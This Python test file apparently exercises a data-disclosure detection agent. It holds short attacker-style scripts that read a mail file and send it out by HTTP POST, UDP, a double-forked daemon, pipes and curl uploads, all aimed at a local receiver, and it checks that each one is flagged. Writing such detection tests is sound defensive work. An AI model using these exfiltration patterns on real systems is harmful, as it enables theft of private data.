"""Client data that somebody carries off: scripts as an attacker would write them, and the services that have to send it."""

import os
import subprocess

from disclosure_case import NOBODY, DisclosureCase
from e2e_case import go_on, main
from waiting import wait_until

READ_AND_POST = """\
import sys, urllib.request
urllib.request.urlopen(sys.argv[2], open(sys.argv[1], "rb").read(), timeout=20)
"""
READ_AND_ASK_FOR_A_NAME = """\
import socket, sys
mail = open(sys.argv[1], "rb").read()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mail[:32].hex().encode(), ("127.0.0.1", int(sys.argv[2])))
"""
READ_AND_LEAVE_IT_TO_A_DAEMON = """\
import os, socket, sys
mail = open(sys.argv[1], "rb").read()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        socket.create_connection(("127.0.0.1", int(sys.argv[2]))).sendall(mail)
    os._exit(0)
os.wait()
"""
CONNECT_FIRST = """\
import socket, sys
connection = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
connection.sendall(open(sys.argv[1], "rb").read())
"""
SEND_STANDARD_INPUT = """\
import socket, sys
mail = sys.stdin.buffer.read()
socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(mail + b".")
"""
CONNECT_AND_SEND_STANDARD_INPUT = """\
import os, socket, sys
connection = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
connection.sendall(sys.stdin.buffer.read())
os._exit(0)
"""


class Disclosures(DisclosureCase):
    def test_a_script_that_reads_and_posts(self):
        self.watch()
        self.run_script(READ_AND_POST, self.mail, f"http://127.0.0.1:{self.receiver.port}/")
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3")
        self.settle()
        self.assertEqual(self.agent.total("disclosures_total", verdict="flagged"), 1)
        self.assertEqual(self.agent.total("open_threats", threat="disclosure", severity="critical"), 1)

    def test_mail_in_a_question_for_a_name(self):
        self.watch()
        self.run_script(READ_AND_ASK_FOR_A_NAME, self.mail, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "udp", "python3")

    def test_a_daemon_that_goes_on_alone(self):
        self.watch()
        self.run_script(READ_AND_LEAVE_IT_TO_A_DAEMON, self.mail, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3")

    def test_what_was_read_before_the_program_was_started_that_sends_it(self):
        self.watch()
        self.act(self.imap, "read", str(self.mail), "become", self.stranger, "connect", f"127.0.0.1:{self.receiver.port}")
        self.assert_flagged(self.ways_out(1)[0], "tcp", "tmp/imap", carried="inherited")

    def pipe(self, reader, *arguments):
        """cat MAIL | python3 -c READER ARGUMENTS"""
        with subprocess.Popen(["cat", self.mail], stdout=subprocess.PIPE) as first:
            subprocess.run(["python3", "-c", reader, *map(str, arguments)], stdin=first.stdout, check=True, timeout=60)

    def test_what_comes_through_a_pipe_and_is_sent(self):
        self.watch()
        self.pipe(SEND_STANDARD_INPUT, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3", carried="piped")

    def test_what_comes_through_a_pipe_to_who_is_connected_already(self):
        self.watch()
        self.pipe(CONNECT_AND_SEND_STANDARD_INPUT, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3", carried="piped")

    def test_a_pipeline_into_a_file_that_is_sent_later(self):
        self.watch()
        copy = self.place.path / "x.gz"
        subprocess.run(f"cat {self.mail} | (read -r line; echo $line > {copy})", shell=True, check=True)
        found = self.ways_out(1)[0]
        self.assertEqual(found["purposewatch"]["disclosure"], {"kind": "copy", "carried": "piped", "path": str(copy)})
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", copy, f"http://127.0.0.1:{self.receiver.port}/"], check=True)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "curl", carried="derived")

    def test_a_named_pipe(self):
        self.watch()
        fifo = self.place.path / "fifo"
        os.mkfifo(fifo)
        with subprocess.Popen(f"cat {self.mail} > {fifo}", shell=True):
            subprocess.run(["sh", "-c", 'exec python3 -c "$1" "$2" < "$3"', "sh", SEND_STANDARD_INPUT, str(self.receiver.port), fifo],
                           check=True, timeout=60)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3", carried="piped")

    def test_a_pipe_of_a_service_is_its_own_business(self):
        self.watch()
        first = subprocess.Popen([self.imap, "act", "read", self.mail, "wait"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        with first:
            self.settle()
            wait_until(lambda: self.permitted() == 1, "the mail is read")
            self.settle()
            go_on(first)
            subprocess.run(["python3", "-c", SEND_STANDARD_INPUT, str(self.receiver.port)], stdin=first.stdout, check=True, timeout=60)
        self.settle()
        self.assertEqual(self.flagged(), 0)

    def test_a_copy_that_another_user_sends_later(self):
        self.watch()
        copy = self.place.path / "out" / "x"
        copy.parent.mkdir()
        with open(copy, "wb") as file:  # as a shell does it: before there is who reads
            subprocess.run(["cat", self.mail], stdout=file, check=True)
        found = self.ways_out(1)[0]
        self.assertEqual((found["purposewatch"]["disclosure"], found["purposewatch"]["reason"]),
                         ({"kind": "copy", "carried": "read", "path": str(copy)}, "no-egress"))
        copy.chmod(0o644)
        copy.parent.chmod(0o755)
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", copy, f"http://127.0.0.1:{self.receiver.port}/"], check=True, user=NOBODY)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "curl", carried="derived")

    def test_a_copy_is_known_after_a_restart(self):
        self.watch()
        copy = self.place.path / "x"
        subprocess.run(f"umask 022; cat {self.mail} > {copy}", shell=True, check=True)
        self.ways_out(1)
        self.agent.stop()
        self.agent.start()
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", copy, f"http://127.0.0.1:{self.receiver.port}/"], check=True, user=NOBODY)
        def sent(found):
            return [one for one in found if one["purposewatch"].get("disclosure", {}).get("protocol") == "tcp"]
        self.assert_flagged(sent(self.agent.findings_until(sent, "the copy is sent"))[0], "tcp", "curl", carried="derived")

    def test_a_copy_of_a_copy_is_one_too(self):
        self.watch()
        first, second = (self.place.path / name for name in ("first.gz", "second"))
        subprocess.run(f"gzip -c {self.mail} > {first}; zcat {first} > {second}", shell=True, check=True)
        found = self.ways_out(2)
        self.assertEqual([one["purposewatch"]["disclosure"]["path"] for one in found], [str(first), str(second)])
        self.assertEqual(found[1]["purposewatch"]["disclosure"]["carried"], "derived")

    def test_a_connection_that_is_older_than_the_reading(self):
        self.watch()
        self.run_script(CONNECT_FIRST, self.mail, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3")

    def test_a_service_goes_where_its_permit_says_and_nobody_else_does(self):
        self.watch(egress=f"127.0.0.1:{self.receiver.port}")
        there = ("connect", f"127.0.0.1:{self.receiver.port}")
        for _ in range(3):
            self.act(self.relay, "read", str(self.mail), *there)
        permitted = self.ways_out(1)[0]
        self.assertEqual((permitted["purposewatch"]["verdict"], permitted["purposewatch"]["service"]), ("permitted", "relay"))
        self.settle()
        self.assertEqual(self.agent.total("disclosures_total", verdict="permitted"), 3)
        self.assertEqual(self.flagged(), 0)
        self.act(self.relay, *there)
        self.act(self.stranger, *there)
        self.act(self.imap, "read", str(self.mail), *there)
        self.assertEqual(self.ways_out(1)[0]["purposewatch"]["service"], "imap")
        self.agent.stop()
        folded = [one for one in self.agent.new_findings() if one["purposewatch"]["verdict"] == "permitted"]
        self.assertEqual([one["purposewatch"]["count"] for one in folded], [2], "told at the end, with their number")

    def test_a_host_is_permitted_by_its_name(self):
        self.watch(egress=f"localhost:{self.receiver.port}")
        self.act(self.relay, "read", str(self.mail), "connect", f"127.0.0.1:{self.receiver.port}")
        self.assertEqual(self.ways_out(1)[0]["purposewatch"]["verdict"], "permitted")


if __name__ == "__main__":
    main()
